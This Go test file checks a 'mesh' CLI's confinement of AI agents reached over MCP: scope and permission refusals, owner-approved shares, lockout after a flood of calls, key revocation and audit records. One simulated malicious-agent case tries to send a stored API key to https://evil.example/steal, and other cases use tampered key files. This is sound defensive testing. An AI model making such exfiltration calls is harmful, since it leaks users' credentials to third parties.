package main

import (
	"bufio"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/ocmt/mesh/agent"
	"github.com/ocmt/mesh/internal/agentsock"
	"github.com/ocmt/mesh/internal/testkit"
	"github.com/ocmt/mesh/node/localapi"
)

// agentWait bounds every wait of these tests on a process: an answer of
// the bridge, a line of mesh approvals --watch, a share reaching bob. A
// loaded 2-core machine answers in well under a second; the margin is
// for the race detector.
const agentWait = 60 * time.Second

// TestCLIAgentLifecycle is an agent's life as a user runs it, every step
// through the mesh binary: a bootstrap, alice and bob. Alice adds an
// agent for her calendar and starts it as its framework would (mesh agent
// mcp, JSON-RPC on stdin and stdout). It reads her calendar, is refused a
// delete (its ceiling) and her secrets, and asks to share her calendar
// with bob: mesh approvals shows the request, mesh approve shares it and
// bob's node holds the share. A flood of calls locks it (mesh agent list
// says so, mesh approvals --watch printed it), mesh agent unlock lets it
// call again, mesh digest counts every call the audit log's agent.calls
// records hold, and after mesh agent rm the agent is refused, on its
// open connection and at the handshake of a new one.
func TestCLIAgentLifecycle(t *testing.T) {
	if testing.Short() {
		t.Skip("three processes and a share between nodes: skipped with -short")
	}
	const calendar = "Mon 9:00 standup CANARY-agent-cal-3b1f"
	pw := []string{"MESH_PASSWORD=" + pwCanary}
	boot := newCLI(t)
	bootAddr := boot.background("bootstrap", "--listen", "/ip4/127.0.0.1/tcp/0")
	alice, bob := newCLI(t), newCLI(t)
	for name, c := range map[string]*cli{"alice": alice, "bob": bob} {
		c.ok("", pw, "init", "--insecure-test-kdf", "--handle", name)
		c.startNode("--bootstrap", bootAddr)
		c.ok("", pw, "unlock")
	}
	alice.ok(calendar, nil, "put", "calendar/work")
	alice.ok(secretCanary, nil, "secret", "set", "openai", "--type", "api_key")
	alice.ok("hello bob", nil, "put", "notes/hello")
	// An approved share is issued at once, so bob must be in the directory
	// first: alice shares a note by hand until he is.
	testkit.Eventually(t, agentWait, func() bool {
		_, _, ok := alice.run("", nil, "share", "notes/hello", "--with", "bob")
		return ok
	}, "bob's handle to reach the directory")

	out := alice.ok("", nil, "agent", "add", "helper", "--paths", "calendar/**")
	keyFile := lastLine(out)
	if st, err := os.Stat(keyFile); err != nil || st.Mode().Perm() != 0o600 || !strings.Contains(out, "mesh agent mcp --key "+keyFile) {
		t.Fatalf("mesh agent add printed %q; its last line %q is not a key file of mode 0600 (%v)", out, keyFile, err)
	}
	if got := agentRow(t, alice, "helper"); !strings.Contains(got, "active") || !strings.Contains(got, "calendar/**") {
		t.Fatalf("mesh agent list after the add: %q", got)
	}

	// The owner follows agent events from the start.
	watch := alice.follow("approvals", "--watch")
	sock := filepath.Join(alice.home, "agent.sock")
	ag := startBridge(t, alice.env, nil, meshBin, "", keyFile, sock)
	ag.initialize()
	calls := 0 // every tool call that reached the node, refused or not
	call := func(tool string, args map[string]any) (map[string]any, string, bool) {
		calls++
		return ag.call(tool, args)
	}

	if res, text, refused := call("read_resource", map[string]any{"path": "calendar/work"}); refused || res["text"] != calendar {
		t.Fatalf("the agent's read of its calendar: %v %q", res, text)
	}
	if _, text, refused := call("delete_resource", map[string]any{"path": "calendar/work"}); !refused ||
		!strings.Contains(text, "may not delete: its ceiling allows") {
		t.Fatalf("the agent's delete: refused=%v %q, want a refusal naming its ceiling", refused, text)
	}
	if _, text, refused := call("read_resource", map[string]any{"path": "secrets/openai"}); !refused ||
		!strings.Contains(text, "agents never read, list or share secrets") || strings.Contains(text, secretCanary) {
		t.Fatalf("the agent's read of a secret: refused=%v %q", refused, text)
	}
	if out := alice.ok("", nil, "get", "alice/calendar/work"); out != calendar {
		t.Fatalf("the refused delete deleted: mesh get says %q", out)
	}

	// A share needs the owner: mesh approvals, mesh approve.
	res, text, refused := call("request_share", map[string]any{"path": "calendar/**", "with": "bob", "can": "read", "for": "7d"})
	id, _ := res["id"].(string)
	if refused || id == "" {
		t.Fatalf("request_share: %v %q", res, text)
	}
	watch.waitFor(t, "approval.asked", "mesh approve "+id)
	lines := strings.Split(strings.TrimSpace(alice.ok("", nil, "approvals")), "\n")
	if len(lines) != 1 || !strings.HasPrefix(lines[0], id+"  pending") || !strings.Contains(lines[0], "agent helper") {
		t.Fatalf("mesh approvals: %q, want one pending line starting with %s", lines, id)
	}
	out = alice.ok("", nil, "approve", id)
	if !strings.Contains(out, "approved: agent helper") || !strings.Contains(out, "shared: ") {
		t.Fatalf("mesh approve %s: %q", id, out)
	}
	testkit.Eventually(t, agentWait, func() bool {
		return slices.ContainsFunc(bob.grants("shared"), func(g localapi.Grant) bool { return g.Resource == "calendar/**" })
	}, "bob to hold the approved share of calendar/**")
	if out := bob.ok("", nil, "shared"); !strings.Contains(out, "calendar/**") {
		t.Fatalf("bob's mesh shared: %q", out)
	}
	if got := agentRow(t, alice, "helper"); !strings.Contains(got, "active") {
		t.Fatalf("mesh agent list before the flood: %q", got)
	}

	// A flood locks the agent: well over the first days' cap of
	// agent.DefaultNewAgentCap calls an hour.
	locked := 0
	for i := 0; i < 2*agent.DefaultNewAgentCap && locked < 3; i++ {
		_, text, refused := call("read_resource", map[string]any{"path": "calendar/work"})
		switch {
		case refused && strings.Contains(text, "is locked since") && strings.Contains(text, "mesh agent unlock helper"):
			locked++
		case refused:
			t.Fatalf("flood call %d refused for another reason: %q", i, text)
		case locked > 0:
			t.Fatalf("flood call %d answered after the agent was locked", i)
		}
	}
	if locked < 3 {
		t.Fatalf("%d calls did not lock the agent", calls)
	}
	if got := agentRow(t, alice, "helper"); !strings.Contains(got, "locked: ") {
		t.Fatalf("mesh agent list after the flood: %q", got)
	}
	var list []localapi.AgentInfo
	if err := json.Unmarshal([]byte(alice.ok("", nil, "agent", "list", "--json")), &list); err != nil || len(list) != 1 ||
		!list[0].Locked || !strings.Contains(list[0].Lock, "calls in the last hour") {
		t.Fatalf("mesh agent list --json after the flood: %+v, %v", list, err)
	}
	watch.waitFor(t, "agent.locked", "mesh agent unlock helper")
	if out := alice.ok("", nil, "agent", "unlock", "helper"); out != "agent helper unlocked\n" {
		t.Fatalf("mesh agent unlock: %q", out)
	}
	if res, text, refused := call("read_resource", map[string]any{"path": "calendar/work"}); refused || res["text"] != calendar {
		t.Fatalf("the unlocked agent's read: %v %q", res, text)
	}
	if got := agentRow(t, alice, "helper"); !strings.Contains(got, "active") {
		t.Fatalf("mesh agent list after the unlock: %q", got)
	}

	// Removed: the open connection is refused, and so is a new one.
	if out := alice.ok("", nil, "agent", "rm", "helper"); out != "agent helper removed; 1 capability revoked\n" {
		t.Fatalf("mesh agent rm: %q", out)
	}
	if _, text, refused := ag.call("read_resource", map[string]any{"path": "calendar/work"}); !refused || !strings.Contains(text, "removed by the owner") {
		t.Fatalf("the removed agent's call on its open connection: refused=%v %q", refused, text)
	}
	ag.stop()
	alice.fails("", nil, "this key belongs to no agent of this node", "agent", "mcp", "--key", keyFile, "--socket", sock)

	// The digest counts what the audit log holds, which is every call.
	checkDigest(t, alice, "helper", calls)
	recs := auditOf(t, alice)
	for _, want := range [][2]string{{"agent.refused", "reason=ceiling"}, {"agent.refused", "reason=scope"},
		{"agent.lock", "auto=true"}, {"agent.unlock", "agent=helper"}, {"approval.ask", "kind=issue"},
		{"approval.approve", "agent=helper"}, {"agent.rm", "revoked=1"}} {
		if !slices.ContainsFunc(recs, func(r auditLine) bool { return r.Op == want[0] && strings.Contains(r.Detail, want[1]) }) {
			t.Errorf("mesh audit --json holds no %s record with %s", want[0], want[1])
		}
	}
	assertNoCanaries(t, alice.home, secretCanary, pwCanary)
}

// TestCLIMaliciousAgentIsRefusedAndRecorded: an agent that tries what it
// may not, through mesh agent mcp as any agent would: delete, a share its
// recipient could pass on, a secret read, a write, a path outside its
// own, a secret use it was never given. Each is refused in words and
// leaves an agent.refused record with its reason; its flood of calls
// locks it (agent.lock). Another agent's key file copied and tampered
// with, a key file the node never saw and a file that is no key are
// refused before any tool runs, each logged by the node. Run as root, the
// agent also runs as another Unix user (agent_uid_test.go): it reaches
// the agent socket, and the owner's api.sock refuses it.
func TestCLIMaliciousAgentIsRefusedAndRecorded(t *testing.T) {
	pw := []string{"MESH_PASSWORD=" + pwCanary}
	c := newCLI(t)
	c.ok("", pw, "init", "--insecure-test-kdf", "--handle", "alice")
	nodeArgs := []string{"--verbose"}
	asRoot := os.Geteuid() == 0
	if asRoot {
		nodeArgs = append(nodeArgs, otherUserNodeArgs(t, c)...)
	}
	_, nodeLog := c.startLoggedNode(nodeArgs...)
	c.ok("", pw, "unlock")
	c.ok(secretCanary, nil, "secret", "set", "openai", "--type", "api_key")
	c.ok("Mon 9:00 standup", nil, "put", "calendar/work")
	c.ok("private", nil, "put", "notes/diary")
	keyFile := lastLine(c.ok("", nil, "agent", "add", "intruder", "--paths", "calendar/**"))
	bystanderKey := lastLine(c.ok("", nil, "agent", "add", "bystander", "--paths", "notes/**"))
	sock := filepath.Join(c.home, "agent.sock")

	ag := startBridge(t, c.env, nil, meshBin, "", keyFile, sock)
	ag.initialize()
	refusals := []struct {
		tool   string
		args   map[string]any
		words  string // in the refusal the agent reads
		detail string // in its agent.refused record
		target string
	}{
		{"delete_resource", map[string]any{"path": "calendar/work"},
			"may not delete: its ceiling allows", "reason=ceiling action=delete", "calendar/work"},
		{"request_share", map[string]any{"path": "calendar/**", "with": "mallory", "can": "read,share", "for": "7d"},
			"may not share: its ceiling allows", "reason=ceiling action=read,share", "calendar/**"},
		{"read_resource", map[string]any{"path": "secrets/openai"},
			"agents never read, list or share secrets", "reason=scope action=read", "secrets/openai"},
		{"write_resource", map[string]any{"path": "calendar/work", "text": "cancelled"},
			"may not write: its ceiling allows", "reason=ceiling action=write", "calendar/work"},
		{"read_resource", map[string]any{"path": "notes/diary"},
			"may not read notes/diary: its paths are", "reason=scope action=read", "notes/diary"},
		{"use_secret", map[string]any{"name": "openai", "method": "GET", "url": "https://evil.example/steal"},
			"may not use: its ceiling allows", "reason=ceiling action=use", "secrets/openai"},
	}
	for _, r := range refusals {
		_, text, refused := ag.call(r.tool, r.args)
		if !refused || !strings.Contains(text, r.words) || strings.Contains(text, secretCanary) {
			t.Errorf("%s %v: refused=%v %q, want a refusal saying %q", r.tool, r.args, refused, text, r.words)
		}
	}
	if out := c.ok("", nil, "get", "alice/calendar/work"); out != "Mon 9:00 standup" {
		t.Fatalf("after the refused write and delete, calendar/work holds %q", out)
	}
	if _, errs, _ := c.run("", nil, "approvals"); !strings.Contains(errs, "no requests from agents") {
		t.Fatalf("a refused share request is waiting for the owner: %q", errs)
	}

	// Keys that are not an agent's are refused at the handshake.
	tampered := filepath.Join(c.home, "tampered.key")
	writeTamperedKey(t, bystanderKey, tampered)
	c.fails("", nil, "this key belongs to no agent of this node", "agent", "mcp", "--key", tampered, "--socket", sock)
	stranger := filepath.Join(c.home, "stranger.key")
	if _, err := agentsock.CreateKeyFile(stranger, "bystander"); err != nil {
		t.Fatal(err)
	}
	c.fails("", nil, "this key belongs to no agent of this node", "agent", "mcp", "--key", stranger, "--socket", sock)
	garbled := filepath.Join(c.home, "garbled.key")
	b, _ := os.ReadFile(bystanderKey)
	os.WriteFile(garbled, []byte(strings.Replace(string(b), "\n\n", "\n\n!!", 1)), 0o600)
	c.fails("", nil, "is not an agent key file", "agent", "mcp", "--key", garbled, "--socket", sock)
	testkit.Eventually(t, agentWait, func() bool {
		return strings.Count(nodeLog.String(), "this key belongs to no agent of this node") >= 2
	}, "the node to log both refused handshakes; its log:\n%s", nodeLog)

	// Its flood locks it.
	locked := false
	for i := 0; i < 2*agent.DefaultNewAgentCap && !locked; i++ {
		_, text, refused := ag.call("list_resources", map[string]any{"prefix": "calendar"})
		locked = refused && strings.Contains(text, "is locked since")
	}
	if !locked {
		t.Fatalf("%d calls did not lock the agent", 2*agent.DefaultNewAgentCap)
	}
	if _, text, refused := ag.call("read_resource", map[string]any{"path": "calendar/work"}); !refused || !strings.Contains(text, "is locked since") {
		t.Fatalf("the locked agent's read: refused=%v %q", refused, text)
	}

	recs := auditOf(t, c)
	for _, r := range refusals {
		if !slices.ContainsFunc(recs, func(a auditLine) bool {
			return a.Op == agent.OpAgentRefused && a.Actor == "agent:intruder" && a.Target == r.target && a.Outcome == "denied" &&
				strings.HasPrefix(a.Detail, "agent=intruder "+r.detail+" count=1: ")
		}) {
			t.Errorf("no agent.refused record of %s on %s with %q in mesh audit --json", r.tool, r.target, r.detail)
		}
	}
	if !slices.ContainsFunc(recs, func(a auditLine) bool {
		return a.Op == agent.OpAgentLock && a.Target == "intruder" && strings.HasPrefix(a.Detail, "agent=intruder auto=true ")
	}) {
		t.Error("no agent.lock record of the flood in mesh audit --json")
	}
	if slices.ContainsFunc(recs, func(a auditLine) bool {
		return strings.Contains(a.Detail, "agent=bystander ") && a.Op != agent.OpAgentAdd
	}) {
		t.Error("the tampered copy of bystander's key did something as bystander")
	}

	t.Run("as another Unix user", func(t *testing.T) {
		if !asRoot {
			t.Skip("needs root to run the agent as uid 65534 (nobody) with the agent socket's group 65534; run the tests as root to cover it")
		}
		agentAsAnotherUser(t, c)
	})

	c.interrupt()
	if strings.Contains(nodeLog.String(), secretCanary) || strings.Contains(nodeLog.String(), pwCanary) {
		t.Error("the node's log holds a canary")
	}
	assertNoCanaries(t, c.home, secretCanary, pwCanary)
}

// lastLine is out's last line, without its newline.
func lastLine(out string) string {
	l := strings.Split(strings.TrimRight(out, "\n"), "\n")
	return l[len(l)-1]
}

// agentRow is the line of mesh agent list naming agent name.
func agentRow(t *testing.T, c *cli, name string) string {
	t.Helper()
	for _, l := range strings.Split(c.ok("", nil, "agent", "list"), "\n") {
		if strings.HasPrefix(l, name+" ") {
			return l
		}
	}
	t.Fatalf("mesh agent list shows no agent %s", name)
	return ""
}

// writeTamperedKey copies the agent key file from to to, with one bit of
// its key flipped: a file of the right form holding a key the node never
// gave anything.
func writeTamperedKey(t *testing.T, from, to string) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	block, _ := pem.Decode(b)
	if block == nil {
		t.Fatalf("%s is not PEM", from)
	}
	block.Bytes[len(block.Bytes)-1] ^= 1
	if err := os.WriteFile(to, pem.EncodeToMemory(block), 0o600); err != nil {
		t.Fatal(err)
	}
}

// auditLine is one record of mesh audit --json.
type auditLine struct {
	Time    time.Time `json:"time"`
	Actor   string    `json:"actor"`
	Op      string    `json:"op"`
	Target  string    `json:"target"`
	Outcome string    `json:"outcome"`
	Detail  string    `json:"detail"`
}

// auditOf is c's audit log, as mesh audit --json prints it; the chain
// must verify.
func auditOf(t *testing.T, c *cli) []auditLine {
	t.Helper()
	var rep struct {
		Records []auditLine `json:"records"`
		Broken  string      `json:"broken"`
	}
	out := c.ok("", nil, "audit", "--json")
	if err := json.Unmarshal([]byte(out), &rep); err != nil || rep.Broken != "" || len(rep.Records) == 0 {
		t.Fatalf("mesh audit --json: %v, broken %q", err, rep.Broken)
	}
	if strings.Contains(out, secretCanary) || strings.Contains(out, pwCanary) {
		t.Fatal("mesh audit --json shows a canary")
	}
	return rep.Records
}

// checkDigest checks that mesh digest counts calls of agent name, as the
// sum of the calls= of its agent.calls records in mesh audit --json, over
// every week those records fall in, and shows its lock in the lock's
// week.
func checkDigest(t *testing.T, c *cli, name string, calls int) {
	t.Helper()
	c.ok("", nil, "digest") // writes this hour's counts first
	weeks := map[agent.Week]int{}
	var lockWeek agent.Week
	for _, r := range auditOf(t, c) {
		if r.Target != name {
			continue
		}
		fs, _, err := agent.ParseDetail(r.Detail)
		switch {
		case r.Op == agent.OpAgentLock && err == nil:
			at, err := time.Parse(time.RFC3339, fs["at"])
			if err != nil {
				t.Fatalf("an agent.lock record without its time: %q", r.Detail)
			}
			lockWeek = agent.WeekOf(at)
		case r.Op == agent.OpAgentCalls:
			from, err1 := time.Parse(time.RFC3339, fs["from"])
			n, err2 := strconv.Atoi(fs["calls"])
			if err != nil || err1 != nil || err2 != nil {
				t.Fatalf("an agent.calls record that does not parse: %q", r.Detail)
			}
			weeks[agent.WeekOf(from)] += n
		}
	}
	audited := 0
	for _, n := range weeks {
		audited += n
	}
	if audited != calls {
		t.Errorf("the agent.calls records of %s sum to %d calls; it made %d", name, audited, calls)
	}
	if lockWeek == (agent.Week{}) {
		t.Fatalf("no agent.lock record of %s", name)
	}
	if _, ok := weeks[lockWeek]; !ok {
		weeks[lockWeek] = 0
	}
	digested, all := 0, ""
	for w, n := range weeks {
		text := c.ok("", nil, "digest", "--week", w.String())
		total := digestTotal(t, text, name)
		if total != n {
			t.Errorf("mesh digest --week %s counts %d calls of %s; its agent.calls records of that week sum to %d:\n%s", w, total, name, n, text)
		}
		digested += total
		all += text
		if w == lockWeek && (!strings.Contains(text, "\nLocks: 1\n") || !strings.Contains(text, name+"  auto-lock: ")) {
			t.Errorf("mesh digest --week %s does not show the lock of %s:\n%s", w, name, text)
		}
	}
	for _, want := range []string{"Refusals: ", "ceiling 1", "scope 1", "1 asked", "1 granted"} {
		if !strings.Contains(all, want) {
			t.Errorf("mesh digest does not say %q:\n%s", want, all)
		}
	}
	if md := c.ok("", nil, "digest", "--format", "markdown", "--week", lockWeek.String()); !strings.Contains(md, "| "+name+" |") {
		t.Errorf("mesh digest --format markdown has no row of %s:\n%s", name, md)
	}
	if page := c.ok("", nil, "digest", "--format", "html", "--week", lockWeek.String()); !strings.Contains(page, name) || strings.Contains(page, `src="http`) {
		t.Errorf("mesh digest --format html, want a page naming %s without external assets: %q", name, page)
	}
	if digested != calls {
		t.Errorf("mesh digest counts %d calls of %s over weeks %v; it made %d", digested, name, weeks, calls)
	}
}

// digestTotal is the total column of agent name's row in the calls table
// of a text digest (0 when it has no row).
func digestTotal(t *testing.T, text, name string) int {
	t.Helper()
	_, table, ok := strings.Cut(text, "\nCalls\n")
	if !ok {
		return 0
	}
	table, _, _ = strings.Cut(table, "\n\n")
	for _, l := range strings.Split(table, "\n") {
		f := strings.Fields(l)
		if len(f) == 9 && f[0] == name {
			n, err := strconv.Atoi(f[8])
			if err != nil {
				t.Fatalf("the digest row %q has no total", l)
			}
			return n
		}
	}
	return 0
}

// startLoggedNode is startNode keeping the node's stderr (its log) too.
func (c *cli) startLoggedNode(args ...string) (stdout, stderr *syncBuffer) {
	c.t.Helper()
	cmd := exec.Command(meshBin, append([]string{"node", "--listen", "/ip4/127.0.0.1/tcp/0"}, args...)...)
	cmd.Env = c.env
	stdout, stderr = &syncBuffer{}, &syncBuffer{}
	cmd.Stdout, cmd.Stderr = stdout, stderr
	if err := cmd.Start(); err != nil {
		c.t.Fatal(err)
	}
	c.proc = cmd
	c.t.Cleanup(c.stop)
	if !testkit.Poll(agentWait, func() bool { return strings.Contains(stdout.String(), "agent socket on ") }) {
		c.t.Fatalf("mesh node %s did not start: %q %q", strings.Join(args, " "), stdout, stderr)
	}
	return stdout, stderr
}

// follower is a mesh command that prints as things happen (mesh
// approvals --watch), running until the test ends.
type follower struct {
	args []string
	out  *syncBuffer
}

// follow starts mesh args on c's home in the background.
func (c *cli) follow(args ...string) *follower {
	c.t.Helper()
	cmd := exec.Command(meshBin, args...)
	cmd.Env = c.env
	f := &follower{args: args, out: &syncBuffer{}}
	cmd.Stdout, cmd.Stderr = f.out, f.out
	if err := cmd.Start(); err != nil {
		c.t.Fatal(err)
	}
	c.t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	return f
}

// waitFor waits until f printed a line holding every one of parts.
func (f *follower) waitFor(t *testing.T, parts ...string) {
	t.Helper()
	testkit.Eventually(t, agentWait, func() bool { return lineWith(f.out.String(), parts...) },
		"mesh %s to print a line with %q; it printed:\n%s", strings.Join(f.args, " "), parts, f.out)
}

// bridge is `mesh agent mcp` as an agent framework runs it: JSON-RPC
// requests, one a line, on its stdin; answers on its stdout.
type bridge struct {
	t      *testing.T
	cmd    *exec.Cmd
	in     io.WriteCloser
	lines  chan string
	stderr *syncBuffer
	next   int
}

// startBridge starts bin agent mcp --key keyFile --socket sock with env,
// as the user of cred when it is set, in dir when it is not "".
func startBridge(t *testing.T, env []string, cred *syscall.Credential, bin, dir, keyFile, sock string) *bridge {
	t.Helper()
	cmd := exec.Command(bin, "agent", "mcp", "--key", keyFile, "--socket", sock)
	cmd.Env, cmd.Dir = env, dir
	if cred != nil {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: cred}
	}
	b := &bridge{t: t, cmd: cmd, lines: make(chan string, 64), stderr: &syncBuffer{}}
	cmd.Stderr = b.stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if b.in, err = cmd.StdinPipe(); err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() {
		sc := bufio.NewScanner(out)
		sc.Buffer(nil, 8<<20)
		for sc.Scan() {
			b.lines <- sc.Text()
		}
		close(b.lines)
	}()
	t.Cleanup(b.stop)
	return b
}

// rpcError is a JSON-RPC error.
type rpcError struct {
	Code    int    `json:"code"`
	Message string `json:"message"`
}

// rpc sends method with params and returns the result of its answer.
func (b *bridge) rpc(method string, params any) json.RawMessage {
	b.t.Helper()
	b.next++
	req, err := json.Marshal(map[string]any{"jsonrpc": "2.0", "id": b.next, "method": method, "params": params})
	if err != nil {
		b.t.Fatal(err)
	}
	if _, err := b.in.Write(append(req, '\n')); err != nil {
		b.t.Fatalf("writing %s to mesh agent mcp: %v; its stderr: %q", method, err, b.stderr)
	}
	timeout := time.NewTimer(agentWait)
	defer timeout.Stop()
	for {
		select {
		case l, ok := <-b.lines:
			if !ok {
				b.t.Fatalf("mesh agent mcp ended before answering %s; its stderr: %q", method, b.stderr)
			}
			var resp struct {
				ID     *int            `json:"id"`
				Result json.RawMessage `json:"result"`
				Error  *rpcError       `json:"error"`
			}
			if err := json.Unmarshal([]byte(l), &resp); err != nil {
				b.t.Fatalf("mesh agent mcp wrote a line that is not JSON: %q", l)
			}
			if resp.ID == nil || *resp.ID != b.next {
				continue // a notification, or an answer to nothing we wait for
			}
			if resp.Error != nil {
				b.t.Fatalf("%s: JSON-RPC error %d: %s", method, resp.Error.Code, resp.Error.Message)
			}
			return resp.Result
		case <-timeout.C:
			b.t.Fatalf("mesh agent mcp did not answer %s within %s; its stderr: %q", method, agentWait, b.stderr)
		}
	}
}

// initialize opens the MCP session as a framework does, and checks that
// the bridge offers the agent socket's eight tools.
func (b *bridge) initialize() {
	b.t.Helper()
	b.rpc("initialize", map[string]any{"protocolVersion": "2025-06-18", "capabilities": map[string]any{},
		"clientInfo": map[string]any{"name": "agent-cli-test", "version": "1"}})
	note, _ := json.Marshal(map[string]any{"jsonrpc": "2.0", "method": "notifications/initialized", "params": map[string]any{}})
	if _, err := b.in.Write(append(note, '\n')); err != nil {
		b.t.Fatal(err)
	}
	var list struct {
		Tools []struct{ Name string } `json:"tools"`
	}
	json.Unmarshal(b.rpc("tools/list", map[string]any{}), &list)
	var names []string
	for _, tl := range list.Tools {
		names = append(names, tl.Name)
	}
	slices.Sort(names)
	want := []string{"delete_resource", "list_resources", "memory_add", "memory_search", "read_resource", "request_share", "use_secret", "write_resource"}
	if !slices.Equal(names, want) {
		b.t.Fatalf("mesh agent mcp offers the tools %v, want %v", names, want)
	}
}

// call calls tool with args: its structured result, its text, and
// whether it was refused (a tool error).
func (b *bridge) call(tool string, args map[string]any) (map[string]any, string, bool) {
	b.t.Helper()
	var res struct {
		Content []struct {
			Text string `json:"text"`
		} `json:"content"`
		Structured map[string]any `json:"structuredContent"`
		IsError    bool           `json:"isError"`
	}
	raw := b.rpc("tools/call", map[string]any{"name": tool, "arguments": args})
	if err := json.Unmarshal(raw, &res); err != nil {
		b.t.Fatalf("%s: a result that does not decode: %s", tool, raw)
	}
	var text []string
	for _, c := range res.Content {
		text = append(text, c.Text)
	}
	return res.Structured, strings.Join(text, "\n"), res.IsError
}

// stop closes the bridge's input and waits for it to return.
func (b *bridge) stop() {
	if b.in == nil {
		return
	}
	b.in.Close()
	b.in = nil
	go func() { // whatever it still writes, so it never blocks on a full pipe
		for range b.lines {
		}
	}()
	done := make(chan error, 1)
	go func() { done <- b.cmd.Wait() }()
	select {
	case err := <-done:
		if err != nil {
			b.t.Errorf("mesh agent mcp exited with %v at the end of its input; stderr %q", err, b.stderr)
		}
	case <-time.After(agentWait):
		b.cmd.Process.Kill()
		<-done
		b.t.Errorf("mesh agent mcp did not return within %s of the end of its input", agentWait)
	}
}

// String makes a bridge readable in failures.
func (b *bridge) String() string { return fmt.Sprintf("mesh agent mcp (pid %d)", b.cmd.Process.Pid) }
